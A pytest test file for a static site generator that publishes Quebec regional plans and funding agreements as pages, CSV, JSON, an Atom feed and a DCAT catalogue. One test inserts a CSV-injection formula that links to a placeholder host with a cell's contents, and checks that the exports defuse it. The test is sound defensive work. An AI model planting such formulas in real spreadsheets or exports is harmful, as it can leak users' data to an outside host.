"""Follow-up (statuses, progress, schedule), versions and open data."""

from __future__ import annotations

import csv
import io
import json
import shutil
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from generator.content.loading import load_site

from generator.pages.site import render_pages
from generator.opendata.downloads import render_downloads
from generator.content.problems import ContentError
from tests.conftest import FIXTURES, ROOT
from tests.test_build import build

URL = "https://exemple.org/plans/"
SEED_PIAR = "mrc-du-fjord-du-saguenay-piar"
SEED_ENTENTE = "entente-attraction-abitibi-temiscamingue-2023-2027"


@pytest.fixture(scope="module")
def seeds() -> tuple:
    site = load_site(ROOT / "content")
    return site, render_pages(site), render_downloads(site, URL)


def rows(text: str) -> list[dict[str, str]]:
    """RFC 4180: UTF-8 without BOM, comma."""
    assert not text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


def test_seed_statuses_are_not_invented(seeds: tuple) -> None:
    site, pages, downloads = seeds
    piar = site.documents[SEED_PIAR]
    actions = [a for e in piar.enjeux for v in e.volets for a in v.actions]
    assert len(actions) == 29 and all(a.statut is None for a in actions)
    page = pages[f"documents/{SEED_PIAR}/index.md"].markdown
    assert "29\u00a0actions; statut non publié." in page
    assert page.count("statut non publié") == 8  # the plan and each of its 7 enjeux
    assert "En retard" not in page and "réalisée" not in page
    assert all(row["statut"] == "" for row in rows(downloads[f"documents/{SEED_PIAR}/{SEED_PIAR}.csv"]))


def test_seed_csv_holds_every_action(seeds: tuple) -> None:
    site, _, downloads = seeds
    table = rows(downloads[f"documents/{SEED_PIAR}/{SEED_PIAR}.csv"])
    piar = site.documents[SEED_PIAR]
    expected = [(e.numero, i, a.texte) for e in piar.enjeux for i, v in enumerate(e.volets, 1) for a in v.actions]
    assert [(int(r["enjeu"]), int(r["volet"]), r["action_texte"]) for r in table] == expected
    assert {r["enjeu_titre"] for r in table} == {e.titre for e in piar.enjeux}
    assert table[0]["axes_programme"] == "2-7; 1-2-3-7" and table[0]["temps_imparti_note"] == "Temps non imparti aux ressources."
    assert table[0]["temps_imparti"] == "" and table[3]["temps_imparti"] == "15" and table[3]["temps_imparti_note"] == ""
    indicators = " | ".join(r["indicateurs"] for r in table)
    for enjeu in piar.enjeux:
        for volet in enjeu.volets:
            for indicator in volet.indicateurs:
                assert indicator.texte in indicators
    assert downloads["donnees/actions.csv"] == downloads[f"documents/{SEED_PIAR}/{SEED_PIAR}.csv"]


def test_seed_contributions_csv_for_machines(seeds: tuple) -> None:
    _, _, downloads = seeds
    text = downloads[f"documents/{SEED_ENTENTE}/{SEED_ENTENTE}.csv"]
    assert "\r\n" in text and ";" not in text.splitlines()[0]
    table = rows(text)
    assert [(r["sigle"] or r["partie"], r["montant"], r["nature"]) for r in table] == [
        ("MAMH", "1800000", "monetaire"), ("SQ", "105000", "monetaire"), ("MIFI", "150000", "monetaire"),
        ("MEIE", "400000", "monetaire"), ("Total MRC/Ville", "401200", "monetaire"), ("CPAT", "15000", "non_monetaire"),
    ]
    assert table[0]["part_du_total"] == "62.7"  # decimal point, as pandas, R and csvkit read it
    assert {r["total_declare"] for r in table} == {"2871200"}


def test_seed_json_is_the_whole_model(seeds: tuple) -> None:
    site, _, downloads = seeds
    data = json.loads(downloads[f"documents/{SEED_PIAR}/{SEED_PIAR}.json"])
    assert [e["numero"] for e in data["enjeux"]] == [1, 2, 3, 4, 5, 6, 7]
    assert sum(len(v["actions"]) for e in data["enjeux"] for v in e["volets"]) == 29
    assert data["enjeux"][0]["volets"][0]["echeances"] == ["2023-12", "2024-09", "2025-01"]
    entente = json.loads(downloads[f"documents/{SEED_ENTENTE}/{SEED_ENTENTE}.json"])
    assert entente["contributions"]["total_declare"] == 2871200
    assert len(entente["contributions"]["parties"]) == 6
    whole = json.loads(downloads["donnees/plans-publics.json"])
    assert {d["identifiant"] for d in whole["documents"]} == set(site.documents)
    assert whole["licence"]["nom"].startswith("Creative Commons Attribution 4.0")


def test_dcat_catalogue(seeds: tuple) -> None:
    _, _, downloads = seeds
    catalogue = json.loads(downloads["donnees/catalogue.jsonld"])
    assert catalogue["@type"] == "dcat:Catalog"
    assert catalogue["dct:license"]["@id"] == "https://creativecommons.org/licenses/by/4.0/"
    assert catalogue["dct:license"]["@type"] == "dct:LicenseDocument" and catalogue["dct:license"]["dct:identifier"] == "CC-BY-4.0"
    datasets = {d["dct:identifier"]: d for d in catalogue["dcat:dataset"]}
    assert "plans-publics" in datasets  # the whole site's files
    piar = datasets[SEED_PIAR]
    assert piar["dct:publisher"]["foaf:name"] == "MRC du Fjord-du-Saguenay"
    assert piar["dct:issued"]["@value"] == "2021-05-11" and piar["dct:modified"]["@value"] == "2024-10-02"
    urls = [d["dcat:downloadURL"]["@id"] for d in piar["dcat:distribution"]]
    assert urls == [f"{URL}documents/{SEED_PIAR}/{name}" for name in (
        f"{SEED_PIAR}.json", f"{SEED_PIAR}.csv", f"{SEED_PIAR}-indicateurs.csv", "datapackage.json")]
    assert "dct:modified" not in datasets[SEED_ENTENTE]  # the entente gives no date: none invented


def test_follow_up_fixture(tmp_path: Path) -> None:
    site = load_site(FIXTURES / "suivi")
    pages = render_pages(site)
    page = pages["documents/mrc-de-test-piar/index.md"].markdown
    assert "5\u00a0actions\u00a0: 2\u00a0en cours, 1\u00a0réalisée, 1\u00a0reportée, statut non publié pour 1." in page
    assert "Part réalisée\u00a0: 1 sur 5 (20\u00a0%)" in page and "En retard au 2\u00a0octobre\u00a02024\u00a0: 2" in page
    assert "Cible\u00a0: 50\u00a0%. Résultat\u00a0: 30\u00a0% (mesuré le 15\u00a0septembre\u00a02024)." in page
    schedule = pages["documents/mrc-de-test-piar/echeancier.md"]
    assert not schedule.in_nav
    headings = [line for line in schedule.markdown.splitlines() if line.startswith("## ")]
    assert [h.split(" {")[0] for h in headings] == ["## 31\u00a0mars\u00a02024", "## Mars\u00a02024", "## 1er\u00a0mars\u00a02025"]


def test_overdue_is_relative_to_the_update_date_not_today(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES / "suivi", content)
    path = content / "documents" / "mrc-de-test-piar.yml"
    path.write_text(path.read_text(encoding="utf-8").replace("mise_a_jour: 2024-10-02", "mise_a_jour: 2024-02-15"), encoding="utf-8")
    shutil.rmtree(content / "versions" / "mrc-de-test-piar")  # its date would no longer be earlier... it is; keep the test focused
    page = render_pages(load_site(content))["documents/mrc-de-test-piar/index.md"].markdown
    assert "En retard" not in page  # on 2024-02-15 no deadline had passed yet


def test_versions_history_and_stable_addresses() -> None:
    site = load_site(FIXTURES / "suivi")
    assert [d for d, _ in site.versions["mrc-de-test-piar"]] == [__import__("datetime").date(2021, 5, 1)]
    pages = render_pages(site)
    old = pages["documents/mrc-de-test-piar/versions/2021-05-01.md"]
    assert not old.in_nav and old.title == "Version du 1er\u00a0mai\u00a02021"
    assert "**Ancienne version du 1er\u00a0mai\u00a02021, remplacée le 2\u00a0octobre\u00a02024.**" in old.markdown
    assert "Un enjeu abandonné" in old.markdown
    current = pages["documents/mrc-de-test-piar/index.md"].markdown
    for change in ("Enjeu 3 retiré", "Enjeu 2 ajouté", "temps imparti modifié, 15\u00a0% \\(auparavant 10\u00a0%\\)",
                   "action ajoutée\u00a0: «\u00a0Visiter les entreprises.\u00a0»"):
        assert change in current, change
    entente = pages["documents/nordique-entente/index.md"].markdown
    assert "Partie ajoutée\u00a0: Total MRC, 1\u00a0000\u00a0$." in entente
    assert "Enveloppe totale modifiée\u00a0: 1\u00a0001\u00a0000\u00a0$ \\(auparavant 1\u00a0000\u00a0000\u00a0$\\)." in entente


def test_feed(seeds: tuple) -> None:
    site = load_site(FIXTURES / "suivi")
    feed = render_downloads(site, URL)["flux.xml"]
    root = ET.fromstring(feed)
    ns = {"a": "http://www.w3.org/2005/Atom"}
    titles = [e.findtext("a:title", namespaces=ns) for e in root.findall("a:entry", ns)]
    assert titles == [
        "Nouvelle version : Plan d'intervention et d'affectation des ressources (MRC de Test)",
        "Nouvelle version : Entente sectorielle de développement sur les essais (Organisme Nordique)",
        "Nouveau document : Entente sectorielle de développement sur les essais (Organisme Nordique)",
        "Nouveau document : Plan d'intervention et d'affectation des ressources (MRC de Test)",
    ]
    assert root.findtext("a:updated", namespaces=ns) == "2024-10-02T00:00:00Z"


@pytest.mark.parametrize(("field", "value", "message"), [
    ("statut", "{etat: terminée, date: 2024-01-01}", "l'une des valeurs « à venir », « en cours », « réalisée », « reportée », « abandonnée »"),
    ("statut", "{etat: abandonnée, date: 2024-01-01}", "une action abandonnée demande une justification"),
])
def test_bad_status(mini: Path, field: str, value: str, message: str) -> None:
    from generator.content.problems import ContentError

    path = mini / "documents" / "mrc-de-test-piar.yml"
    text = path.read_text(encoding="utf-8").replace("        actions: [Une action.]", f"        actions:\n          - texte: Une action.\n            {field}: {value}")
    path.write_text(text, encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_site(mini)
    assert any(message in p.message for p in info.value.problems), [str(p) for p in info.value.problems]


def test_version_must_be_older_and_named_by_date(tmp_path: Path) -> None:
    from generator.content.problems import ContentError

    content = tmp_path / "content"
    shutil.copytree(FIXTURES / "suivi", content)
    shutil.copy(content / "versions" / "mrc-de-test-piar" / "2021-05-01.yml", content / "versions" / "mrc-de-test-piar" / "2025-01-01.yml")
    shutil.copy(content / "versions" / "mrc-de-test-piar" / "2021-05-01.yml", content / "versions" / "mrc-de-test-piar" / "ancienne.yml")
    (content / "versions" / "inconnu").mkdir()
    with pytest.raises(ContentError) as info:
        load_site(content)
    messages = "\n".join(str(p) for p in info.value.problems)
    assert "la version du 2025-01-01 n'est pas antérieure à la version actuelle (2024-10-02)" in messages
    assert "versions/mrc-de-test-piar/ancienne.yml" in messages and "AAAA-MM-JJ.yml" in messages
    assert "aucun document « inconnu »" in messages


def test_follow_up_site_builds_strict_with_downloads(tmp_path: Path) -> None:
    project = tmp_path / "projet"
    shutil.copytree(FIXTURES / "suivi", project / "content")
    shutil.copytree(ROOT / "theme_overrides", project / "theme_overrides")
    shutil.copy(ROOT / "mkdocs.yml", project / "mkdocs.yml")
    result = build(project / "mkdocs.yml", project / "site", cwd=project, env={"SITE_URL": URL})
    assert result.returncode == 0, result.stderr[-3000:]
    site = project / "site"
    old = site / "documents" / "mrc-de-test-piar" / "versions" / "2021-05-01" / "index.html"
    assert old.is_file()
    current = (site / "documents" / "mrc-de-test-piar" / "index.html").read_text(encoding="utf-8")
    assert 'href="versions/2021-05-01/"' in current and 'href="echeancier/"' in current
    assert 'href="mrc-de-test-piar.csv"' in current
    assert (site / "documents" / "mrc-de-test-piar" / "mrc-de-test-piar.csv").read_bytes().startswith(b"document,")
    assert (site / "donnees" / "actions.xlsx").read_bytes().startswith(b"PK")
    assert (site / "robots.txt").read_text(encoding="utf-8").endswith(f"Sitemap: {URL}sitemap.xml\n")
    # Former versions and schedules are reached from their document, not from every page's menu.
    assert "versions/2021-05-01" not in (site / "index.html").read_text(encoding="utf-8")
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        if page.name == "index.html" and 'http-equiv="refresh"' not in text:  # not the permanent addresses' small redirects
            assert 'type="application/atom+xml"' in text and 'type="application/ld+json"' in text, page
            assert '<meta property="og:title"' in text and text.count('<meta name="description"') == 1, page
    piar_head = (site / "documents" / "mrc-de-test-piar" / "index.html").read_text(encoding="utf-8").split("</head>")[0]
    assert '<script type="application/ld+json">{"@context":"https://schema.org","@type":"Dataset"' in piar_head
    data = (site / "donnees" / "index.html").read_text(encoding="utf-8")
    assert '<meta name="description" content="Les données de chaque document publié sur ce site' in data
    assert f'<link rel="canonical" href="{URL}donnees/">' in data


def test_csv_cells_never_run_as_formulas(mini: Path) -> None:
    """OWASP "CSV injection": a cell starting with = + - @ tab or CR gets a leading apostrophe."""
    piar = mini / "documents" / "mrc-de-test-piar.yml"
    text = piar.read_text(encoding="utf-8")
    formula = '=HYPERLINK("https://exemple.com/?"&A1,"Cliquez")'
    assert "Deuxième enjeu" in text
    piar.write_text(text.replace("titre: Deuxième enjeu", "titre: '" + formula + "'"), encoding="utf-8")
    site = load_site(mini)
    downloads = render_downloads(site, "https://exemple.github.io/plans-publics/")
    for path in ("documents/mrc-de-test-piar/mrc-de-test-piar.csv", "donnees/actions.csv"):
        rows = list(csv.reader(io.StringIO(downloads[path])))
        cells = [cell for row in rows for cell in row]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), path
        assert "'" + formula in cells, path


def test_progress_of_actions_is_published_and_summarised() -> None:
    site = load_site(FIXTURES / "suivi")
    pages = render_pages(site)
    page = pages["documents/mrc-de-test-piar/index.md"].markdown
    assert "Statut\u00a0: **en cours** au 15\u00a0septembre\u00a02024, avancement de 60\u00a0%" in page
    # Plan: réalisée (100) and the action at 60 %; two without a figure are named, not guessed.
    assert "Avancement moyen\u00a0: 80\u00a0% (2\u00a0actions comptées" in page and "2\u00a0actions sans avancement publié" in page
    assert 'role="progressbar" aria-valuenow="80" aria-valuemin="0" aria-valuemax="100"' in page
    schedule = pages["documents/mrc-de-test-piar/echeancier.md"].markdown
    assert "avancement de 60\u00a0%" in schedule and 'aria-valuenow="80"' in schedule
    downloads = render_downloads(site, "https://exemple.github.io/plans-publics/")
    rows = list(csv.DictReader(io.StringIO(downloads["documents/mrc-de-test-piar/mrc-de-test-piar.csv"])))
    assert {r["action_texte"]: r["avancement"] for r in rows}["Visiter les entreprises."] == "60"
    data = json.loads(downloads["documents/mrc-de-test-piar/mrc-de-test-piar.json"])
    statut = data["enjeux"][0]["volets"][0]["actions"][1]["statut"]
    assert statut["avancement"] == 60 and statut["etat"] == "en cours"


@pytest.mark.parametrize(("statut", "words"), [
    ("{etat: réalisée, date: 2024-06-01, avancement: 80 %}", "une action réalisée est avancée à 100\u00a0%"),
    ("{etat: à venir, date: 2024-06-01, avancement: 10}", "demande l'état « en cours »"),
    ("{etat: en cours, date: 2024-06-01, avancement: 120 %}", "un pourcentage de 0 à 100"),
    ("{etat: en cours, date: 2024-06-01, avancement: -5}", "un pourcentage de 0 à 100"),
])
def test_progress_that_contradicts_the_status_is_refused(mini: Path, statut: str, words: str) -> None:
    piar = mini / "documents" / "mrc-de-test-piar.yml"
    piar.write_text(piar.read_text(encoding="utf-8").replace("actions: [Une action.]", f"actions: [{{texte: Une action., statut: {statut}}}]"), encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_site(mini)
    assert any(words in p.message and p.line == 22 for p in info.value.problems), [str(p) for p in info.value.problems]


def test_follow_up_shows_in_the_history_and_the_feed() -> None:
    site = load_site(FIXTURES / "suivi")
    current = render_pages(site)["documents/mrc-de-test-piar/index.md"].markdown
    for change in (
        "Action 1.1 \\(«\u00a0Former l'équipe\u00a0:\u00a0»\\)\u00a0: statut non publié → réalisée \\(1er\u00a0juin\u00a02024\\).",
        "Indicateur 1.1 \\(«\u00a050\u00a0% des entreprises visitées.\u00a0»\\)\u00a0: cible aucune → «\u00a050\u00a0%\u00a0».",
        "résultat aucun → «\u00a030\u00a0%\u00a0» \\(mesuré le 15\u00a0septembre\u00a02024\\).",
    ):
        assert change in current, change
    feed = render_downloads(site, URL)["flux.xml"]
    assert "Action 1.1 (« Former l'équipe : ») : statut non publié → réalisée (1er juin 2024)." in feed.replace("\u00a0", " ")


def test_every_document_is_in_the_feed_with_the_date_it_uses_said(mini: Path) -> None:
    site = load_site(mini)  # the fixture's entente has no mise_a_jour
    assert any("le flux Atom date l'entente du 1er\u00a0janvier\u00a02023" in n.message for n in site.notices)
    root = ET.fromstring(render_downloads(site, URL)["flux.xml"])
    ns = {"a": "http://www.w3.org/2005/Atom"}
    entries = {e.findtext("a:link", namespaces=ns) or e.find("a:link", ns).get("href"): e.findtext("a:updated", namespaces=ns)
               for e in root.findall("a:entry", ns)}
    assert set(entries) == {f"{URL}documents/{d}/" for d in site.documents}
    assert entries[f"{URL}documents/nordique-entente/"] == "2023-01-01T00:00:00Z"


def test_mixed_contributions_show_cash_and_in_kind_parts(mini: Path) -> None:
    """« 500 000 $, dont 100 000 $ en biens et services »: each partner's total, cash and in-kind,
    and the subtotals, checked against the declared ones; the chart and the CSV say the same."""
    path = mini / "documents" / "nordique-entente.yml"
    text = path.read_text(encoding="utf-8").replace(
        "    - {organisation: me, montant: 1000000}",
        "    - {organisation: me, montant: 1000000, dont_non_monetaire: 250000}",
    ).replace("total_declare: 1 001 000", "total_declare: 1 001 000\n  total_monetaire_declare: 750000\n  total_non_monetaire_declare: 251000")
    path.write_text(text.replace("libelle: Total MRC,", "libelle: Total MRC (contribution non monétaire),"), encoding="utf-8")
    site = load_site(mini)
    page = render_pages(site)["documents/nordique-entente/index.md"]
    assert "dont 750\u00a0000\u00a0$ en argent et 251\u00a0000\u00a0$ en biens et services" in page.markdown
    assert "| Partie | Contribution totale | En argent | En biens et services | Part de l'enveloppe |" in page.markdown
    assert "| 1\u00a0000\u00a0000\u00a0$ | 750\u00a0000\u00a0$ | 250\u00a0000\u00a0$ |" in page.markdown
    assert "| **Total des contributions** | **1\u00a0001\u00a0000\u00a0$** | **750\u00a0000\u00a0$** | **251\u00a0000\u00a0$** | **100\u00a0%** |" in page.markdown
    assert page.markdown.count("(contribution non monétaire) (contribution non monétaire)") == 0  # not doubled when staff wrote it
    assert page.chart[0].in_kind_amount == "250\u00a0000\u00a0$" and page.chart[0].in_kind_ratio == 0.25
    rows = list(csv.DictReader(io.StringIO(render_downloads(site, URL)["documents/nordique-entente/nordique-entente.csv"])))
    assert [(r["montant_en_argent"], r["montant_en_biens_et_services"]) for r in rows] == [("750000", "250000"), ("0", "1000")]

    path.write_text(path.read_text(encoding="utf-8").replace("total_monetaire_declare: 750000", "total_monetaire_declare: 760000"), encoding="utf-8")
    with pytest.raises(ContentError) as info:
        load_site(mini)
    assert any("les contributions en argent totalisent 750\u00a0000\u00a0$, mais le total déclaré est 760\u00a0000\u00a0$" in p.message
               for p in info.value.problems)
